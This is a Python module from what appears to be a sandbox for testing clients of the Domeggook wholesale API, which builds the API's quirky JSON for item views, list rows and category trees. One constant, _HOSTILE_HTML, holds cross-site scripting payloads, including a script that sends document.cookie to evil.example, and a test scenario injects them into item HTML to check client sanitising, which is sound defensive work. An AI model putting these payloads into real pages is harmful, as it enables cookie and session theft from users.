"""Turn catalog items into Domeggook's quirky wire JSON (getItemView, getItemList rows, categories).

Over 400 lines because the wire document is large and every quirk is reproduced field by field.

Field names and nesting follow ``domeggook-api.md`` §2.2/§2.4/§2.5/§2.6. The quirks a client must
survive are reproduced on purpose, each decided *per item* from ``Item.quirk_seed`` so an item always
renders the same way:

* numbers as strings or ints (``basis.no``, ``price.*``, ``qty.inventory``, ``return.deliAmt`` …);
* booleans as ``"true"``/``"false"`` strings, for some items real JSON booleans (``channel.*``,
  ``basis.adult``); ``desc.license.usable`` is always a string (live-checked);
* a one-element list collapses to a bare object/string (``keywords.kw``, ``category.parents.elem``,
  ``detail.infoDuty.item``, and ``list.item`` / multiple ``item`` in the handlers);
* ``selectOpt`` is JSON inside a string, absent or ``null`` when there are no options;
* tiered price strings ``"1+3800|20+3500"``, missing ``price.dome`` for items not sold on 도매꾹, the
  ``Recommand`` typo, and detail HTML whose image URLs carry ``&amp;``.
"""

from __future__ import annotations

import functools
import html
import json
import random
import time
from dataclasses import dataclass
from typing import Any

from storebridge.sandbox.catalog.data import (
    DOMEGGOOK_CATEGORIES,
    LOCKED_CATEGORIES,
    category_ancestors,
    category_depth,
    category_name,
)
from storebridge.sandbox.catalog.model import Item, ItemStatus, OptionSet, Scenario
from storebridge.sandbox.images import detail_image_urls, notice_banner_url, thumb_hash, thumb_urls

KST_OFFSET_S = 9 * 3600
SALE_PERIOD_S = 2 * 365 * 86_400
STATUS_TEXT = {
    ItemStatus.ON_SALE: "판매중",
    ItemStatus.SOLD_OUT: "판매중",  # see ItemStatus: sold out shows as 판매중 with zero stock
    ItemStatus.ENDED: "판매종료",
    ItemStatus.DELETED: "판매종료",  # never rendered: deleted items answer ITEM_ERROR
    # [DOC S3] the remaining documented values (domeggook-api.md §2.4 ``basis.status``).
    ItemStatus.NO_PERIOD: "기간미지정",
    ItemStatus.PENDING_APPROVAL: "승인대기",
    ItemStatus.APPROVAL_REJECTED: "승인거부",
    ItemStatus.PERIOD_ENDED: "기간종료",
    ItemStatus.SANCTIONED: "아웃벌점 제재",
}
LICENSE_OK_MSG = "상세페이지 이미지 사용 가능"
LICENSE_DENIED_MSG = "본 상품의 상세페이지 이미지는 타 쇼핑몰 재판매 시 사용할 수 없습니다."
_HOSTILE_HTML = (
    '<script>document.location="https://evil.example/?c="+document.cookie</script>'
    "<style>body{display:none}</style>"
    '<iframe src="https://evil.example/frame"></iframe>'
    '<p onclick="alert(1)">클릭하세요</p>'
    '<a href="javascript:alert(document.domain)">자세히 보기</a>'
    '<img src="x" onerror="alert(2)">'
)


def kst_datetime(ts: float) -> str:
    """``YYYY-mm-dd HH:ii:ss`` in Korean time (UTC+9, no DST), the API's date format."""
    return time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(ts + KST_OFFSET_S))


@dataclass(frozen=True)
class Quirks:
    """Which type quirks one item's rendering uses; fixed per item (from ``quirk_seed``)."""

    no_as_str: bool
    numbers_as_int: bool
    native_bools: bool
    select_opt_null: bool
    event_join_obj: bool
    deli_amt_str: bool
    list_price_int: bool
    list_nick_missing: bool
    score_with_percent: bool


@functools.lru_cache(maxsize=65_536)
def quirks_for(quirk_seed: int) -> Quirks:
    """The quirks of the item with ``quirk_seed`` (cached; rolls are independent per field)."""
    rng = random.Random(quirk_seed)
    return Quirks(
        no_as_str=rng.random() < 0.15,
        numbers_as_int=rng.random() < 0.3,
        native_bools=rng.random() < 0.1,
        select_opt_null=rng.random() < 0.5,
        event_join_obj=rng.random() < 0.3,
        deli_amt_str=rng.random() < 0.4,
        list_price_int=rng.random() < 0.3,
        list_nick_missing=rng.random() < 0.1,
        score_with_percent=rng.random() < 0.2,
    )


def one_or_list(values: list[Any]) -> Any:
    """XML-to-JSON heritage: a single element is sent bare, several as a list."""
    return values[0] if len(values) == 1 else values


def _num(value: int, as_int: bool) -> int | str:
    return value if as_int else str(value)


def _flag(value: bool, native: bool = False) -> bool | str:
    if native:
        return value
    return "true" if value else "false"


def dome_price_wire(item: Item, quirks: Quirks) -> int | str | None:
    """``price.dome``: int/str for one price, ``"q+p|q+p"`` for tiers, ``None`` = key absent."""
    if item.dome_price_override is not None:
        return item.dome_price_override
    if item.dome_tiers is None:
        return None
    if len(item.dome_tiers) == 1 and item.dome_tiers[0][0] == 1:
        return _num(item.dome_tiers[0][1], quirks.numbers_as_int)
    return "|".join(f"{qty}+{price}" for qty, price in item.dome_tiers)


def select_opt_json(item: Item, options: OptionSet) -> str:
    """The inner JSON of ``selectOpt`` (serialised into a string by the caller's JSON encoder)."""
    sold_out = item.status is ItemStatus.SOLD_OUT
    by_key = {v.key: v for v in options.variants}
    sets = []
    for axis, (name, values) in enumerate(options.axes):
        prices = []
        for index in range(len(values)):
            key = "_".join(f"{index if a == axis else 0:02d}" for a in range(len(options.axes)))
            variant = by_key.get(key)
            prices.append(str(variant.add_price_won if variant else 0))
        sets.append(
            {
                "name": name,
                "opts": list(values),
                "domPrice": prices,
                "changeKey": [f"{i:02d}" for i in range(len(values))],
            }
        )
    sup = "1" if item.supply_price_won is not None else "0"
    data = {
        v.key: {
            "name": v.name,
            "dom": "1" if v.dom else "0",
            "domPrice": str(v.add_price_won),
            "sup": sup,
            "supPrice": str(v.add_price_won),
            "qty": "0" if sold_out else str(v.stock),
            "hid": str(v.hid),
            "hash": v.hash,
        }
        for v in options.variants
    }
    inner = {"type": options.kind, "optSort": "DA", "set": sets, "data": data}
    return json.dumps(inner, ensure_ascii=False, separators=(",", ":"))


def _thumbs(origin: str, item: Item) -> dict[str, str]:
    """The item's thumb URLs, or the control endpoint's override in every size."""
    urls = thumb_urls(origin, item)
    override = item.representative_image_url
    return urls if override is None else dict.fromkeys(urls, override)


def _detail_html(origin: str, item: Item) -> str:
    parts = ["<center>"]
    overrides = item.detail_image_url_overrides
    for url in detail_image_urls(origin, item) if overrides is None else overrides:
        parts.append(f'<img src="{html.escape(url)}" alt="{item.no}"><br>')
    parts.append(f"<p>{html.escape(item.title)}</p></center>")
    if Scenario.SCRIPT_HTML in item.scenarios:
        parts.insert(1, _HOSTILE_HTML)
    return "".join(parts)


def _category(item: Item) -> dict[str, Any]:
    code = item.category_code
    ancestors = category_ancestors(code) or [code[:2] + "_00_00_00_00"]
    parents = [{"name": category_name(c), "code": c, "depth": category_depth(c)} for c in ancestors]
    current = {"name": category_name(code), "code": code, "depth": category_depth(code)}
    return {"parents": {"elem": one_or_list(parents)}, "current": current}


def _delivery(item: Item, quirks: Quirks) -> dict[str, Any]:
    d = item.delivery
    tier: dict[str, Any] = {"type": d.fee_type, "tbl": d.tbl}
    if d.fee_type == "고정배송비":
        tier["fee"] = str(d.fee_won)
    return {
        "method": "택배",
        "pay": d.pay,
        "dome": tier,
        "supply": dict(tier),
        "wating": d.wating,
        "periodDeli": "false",
        "sendAvg": d.send_avg,
        "fastDeli": _flag(float(d.send_avg) < 1.0),
        "merge": {"enable": d.merge},
        "shippingArea": "0",
        "feeExtra": {"jeju": str(d.jeju_won), "islands": str(d.islands_won), "useDeliPro": "false"},
        "fromOversea": _flag(d.from_oversea, quirks.native_bools),
        "reqCcno": _flag(d.from_oversea),
    }


def _seller(item: Item, quirks: Quirks) -> dict[str, Any]:
    s = item.seller
    return {
        "id": s.id,
        "nick": s.nick,
        "type": "사업자",
        "rank": str(s.rank),
        "power": _flag(s.power),
        "good": _flag(s.good),
        "global": "false",
        "score": {
            "avg": f"{s.score_avg}%" if quirks.score_with_percent else str(s.score_avg),
            "cnt": s.score_cnt,
        },
        "company": {"name": s.company_name, "boss": s.boss, "cno": s.cno, "addr": s.addr, "phone": s.phone},
    }


def _detail(item: Item, quirks: Quirks) -> dict[str, Any]:
    spec = item.spec
    detail: dict[str, Any] = {
        "size": spec.size,
        "weight": spec.weight,
        "country": spec.country,
        "manufacturer": spec.manufacturer,
        "model": spec.model,
        "safetyCert": [],
        "oversea": _flag(item.delivery.from_oversea),
        "itemCustomCode": "",
    }
    if spec.safety_cert:
        detail["safetyCert"] = [
            {
                "cert": "Y",
                "type": "생활용품",
                "name": "안전확인",
                "no": f"XU{item.no:08d}-{item.no % 10_000:04d}",
            }
        ]
    if spec.info_duty is not None:
        rows = [{"type": "item", "name": name, "desc": desc} for name, desc in spec.info_duty]
        detail["infoDuty"] = {"type": spec.info_duty_type, "item": one_or_list(rows)}
    return detail


def render_item_view(item: Item, origin: str) -> dict[str, Any]:
    """The object under ``domeggook`` for getItemView (also one element of ``multiple=true``)."""
    q = quirks_for(item.quirk_seed)
    registered = kst_datetime(item.registered_ts)
    price: dict[str, Any] = {}
    dome = dome_price_wire(item, q)
    if dome is not None:
        price["dome"] = dome
    if item.supply_price_won is not None:
        price["supply"] = _num(item.supply_price_won, q.numbers_as_int)
    resale: dict[str, Any] = {}
    if item.resale_minimum_won is not None:
        resale["minimum"] = _num(item.resale_minimum_won, q.numbers_as_int)
    if item.resale_recommend_won is not None:
        resale["Recommand"] = _num(item.resale_recommend_won, q.numbers_as_int)  # sic, the API's typo
    if resale:
        price["resale"] = resale
    body: dict[str, Any] = {
        "basis": {
            "no": str(item.no) if q.no_as_str else item.no,
            "status": STATUS_TEXT[item.status],
            "title": item.title,
            "keywords": {"kw": one_or_list(list(item.keywords))},
            "section": "",
            "nego": "disable",
            "adult": _flag(item.adult, q.native_bools),
            "dateStart": registered,
            "dateEnd": kst_datetime(item.registered_ts + SALE_PERIOD_S),
            "dateReg": registered,
            "secretItem": "false",
            "tax": item.tax,
        },
        "price": price,
        "qty": {
            "inventory": _num(item.total_stock, q.numbers_as_int),
            "domeMoq": _num(item.moq, q.numbers_as_int),
            "domeUnit": item.dome_unit,
            "supplyUnit": 1,
        },
        "deli": _delivery(item, q),
        "channel": {
            "dome": _flag(item.dome_tiers is not None, q.native_bools),
            "supply": _flag(item.supply_price_won is not None, q.native_bools),
        },
        "thumb": {**_thumbs(origin, item), "hash": thumb_hash(item), "lastUpdate": registered},
        "desc": {
            "license": {
                "usable": _flag(item.license_usable),
                "msg": LICENSE_OK_MSG if item.license_usable else LICENSE_DENIED_MSG,
            },
            "notice": f'<p>공지사항</p><img src="{html.escape(notice_banner_url(origin, item))}">',
            "contents": {
                "item": _detail_html(origin, item),
                "deli": f"<p>배송안내: {html.escape(item.delivery.wating)}</p>",
                "event": "",
                "otherItem": f'<p><a href="{origin}/{item.no + 1}">판매자의 다른 상품 보기</a></p>',
            },
        },
    }
    if item.options is not None:
        body["selectOpt"] = select_opt_json(item, item.options)
    elif q.select_opt_null:
        body["selectOpt"] = None
    r = item.seller
    body |= {
        "seller": _seller(item, q),
        "benefits": {"sellerPoint": {"type": "none"}},
        "detail": _detail(item, q),
        "category": _category(item),
        "return": {
            "addr": {
                "no": "1",
                "zipcode": r.zipcode,
                "address1": r.addr,
                "address2": "물류센터",
                "phone": r.phone,
                "mobile": r.mobile,
            },
            "deliAmt": str(item.return_fee_won) if q.deli_amt_str else item.return_fee_won,
            "deliAmtDouble": _flag(item.return_fee_double),
        },
        "event": {
            "join": {"no": [str(item.no % 1000 + 1000)]} if q.event_join_obj else "",
            "packDeli": "false",
        },
        "etc": {"showByMailzine": "false", "connectStompApi": "false", "denyMarket": ""},
    }
    return body


def list_price(item: Item, market: str) -> int | None:
    """The getItemList ``price``: the unit price at the item's MOQ tier on ``market``."""
    return item.price_at(item.moq, market=market)


def render_list_item(item: Item, origin: str, market: str) -> dict[str, Any]:
    """One ``domeggook.list.item`` row: flat, strings, ``thumb`` a plain URL (not the view's object)."""
    q = quirks_for(item.quirk_seed)
    price = list_price(item, market) or 0
    row: dict[str, Any] = {
        "no": str(item.no),
        "title": item.title,
        "thumb": _thumbs(origin, item)["large"],
        "idxCOM": str(item.idx_com),
        "id": item.seller.id,
        "nick": item.seller.nick,
        "price": price if q.list_price_int else str(price),
        "unitQty": str(item.moq),
        "comOnly": _flag(item.com_only),
        "adultOnly": _flag(item.adult),
        "lwp": _flag(item.lwp),
        "deli": {
            "who": item.delivery.who,
            "fee": str(item.delivery.fee_won),
            "add": "false",
            "fromOversea": _flag(item.delivery.from_oversea),
        },
        "url": f"{origin}/{item.no}",
        "market": {
            "domeggook": _flag(item.dome_tiers is not None),
            "supply": _flag(item.supply_price_won is not None),
        },
    }
    if q.list_nick_missing:
        del row["nick"]
    return row


def render_category_tree(*, registrable_only: bool = False) -> dict[str, Any]:
    """``domeggook.items`` of getCategoryList 1.0: nodes keyed by the level's number as a string."""
    root: dict[str, Any] = {}
    nodes: dict[str, dict[str, Any]] = {}
    for code, name in DOMEGGOOK_CATEGORIES.items():
        if registrable_only and code in LOCKED_CATEGORIES:
            continue
        depth = category_depth(code)
        segment = code.split("_")[depth - 1]
        node = {
            "code": code,
            "name": name,
            "locked": _flag(code in LOCKED_CATEGORIES),
            "int": str(int(segment)),
        }
        nodes[code] = node
        ancestors = category_ancestors(code)
        if not ancestors:
            root[str(int(segment))] = node
            continue
        parent = nodes.get(ancestors[-1])
        if parent is not None:
            parent.setdefault("child", {})[str(int(segment))] = node
    return {"items": root}
